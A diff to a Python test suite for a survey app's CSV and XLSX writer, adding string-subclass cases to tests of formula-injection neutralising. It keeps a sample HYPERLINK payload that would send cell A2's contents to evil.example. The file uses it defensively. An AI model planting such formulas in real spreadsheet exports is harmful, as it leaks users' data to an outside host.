@@ -3,6 +3,7 @@ text in every CSV and XLSX the app makes, numbers stay numbers, and an export im
 unchanged."""
 
 import csv
+import enum
 import io
 from decimal import Decimal
 
@@ -15,7 +16,7 @@ from openpyxl import load_workbook
 from barometer.models import Indicator
 from surveys.models import Answer, Invitation, Question, Response, Round, RoundKind, Workplace, WorkplaceType
 from surveys.services.response_files import csv_lines, export_rows, import_responses, write_xlsx
-from surveys.tabular.writing import SafeCsvWriter, csv_row, csv_value, neutralise, restore
+from surveys.tabular.writing import SafeCsvWriter, csv_row, csv_value, neutralise, restore, xlsx_row
 from tests.builders import ResponseBuilder, innovator
 from tests.hypothesis_profiles import example_count
 
@@ -31,6 +32,20 @@ def lazy_text(text: str):
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"See report")'
+
+
+class PlainStrEnum(str, enum.Enum):  # noqa: UP042 (the point: no StrEnum __str__)
+    """A string enum without Django's ``__str__``: ``str()`` gives ``PlainStrEnum.FORMULA``."""
+
+    FORMULA = "=1+1"
+    PLAIN = "plain"
+
+
+class OddStr(str):
+    """A string whose ``__str__`` says something else than its characters."""
+
+    def __str__(self):
+        return "=cmd"
 
 
 @pytest.fixture
@@ -61,13 +76,25 @@ def test_neutralising_is_undone_exactly(text):
     ("value", "cell"),
     [("plain", "plain"), ("=1+1", "'=1+1"), ("", ""), (None, ""), (3, 3), (-2.5, -2.5),
      (Decimal("-1.5"), Decimal("-1.5")), (True, "True"), (WorkplaceType.NURSING_HOME, "nursing_home"),
-     (RoundKind.NATIONAL, "national"), (lazy_text("-1 point"), "'-1 point")],
+     (RoundKind.NATIONAL, "national"), (lazy_text("-1 point"), "'-1 point"), (PlainStrEnum.FORMULA, "'=1+1"),
+     (PlainStrEnum.PLAIN, "plain"), (OddStr("x"), "x")],
 )  # fmt: skip
 def test_every_kind_of_cell_value_is_written_by_the_rule(value, cell):
     """Numbers as numbers (not ``bool``), ``None`` empty, and every other value, string
-    subclasses and lazy texts included, as text neutralised by the rule."""
+    subclasses and lazy texts included, as text neutralised by the rule; a string subclass
+    by its own characters, as :mod:`csv` writes it, whatever its ``__str__`` says."""
     written = csv_value(value)
     assert written == cell and type(written) is type(cell)
+
+
+def test_an_xlsx_cell_holds_a_string_subclass_by_its_own_characters():
+    from openpyxl import Workbook
+
+    sheet = Workbook(write_only=True).create_sheet()
+    plain, formula, odd = xlsx_row(sheet, [PlainStrEnum.PLAIN, PlainStrEnum.FORMULA, OddStr("x")])
+    assert (plain, type(plain)) == ("plain", str)
+    assert (formula.value, formula.data_type) == ("=1+1", "s")
+    assert (odd, type(odd)) == ("x", str)
 
 
 #: Texts made mostly of the characters that matter to the writer: formula starts, the
@@ -77,6 +104,7 @@ CELL = st.one_of(
     TRICKY_TEXT, st.none(), st.booleans(), st.integers(-10**6, 10**6),
     st.floats(allow_nan=False), st.decimals(allow_nan=False, allow_infinity=False, places=2),
     st.sampled_from(list(WorkplaceType)), TRICKY_TEXT.map(lazy_text), st.dates(),
+    st.sampled_from(list(PlainStrEnum)), TRICKY_TEXT.map(OddStr),
 )  # fmt: skip
 DIALECTS = [{}, {"delimiter": ";"}, {"delimiter": "|", "quotechar": "'"}, {"quoting": csv.QUOTE_ALL},
             {"quoting": csv.QUOTE_NONNUMERIC}, {"escapechar": "\\", "doublequote": False}]  # fmt: skip
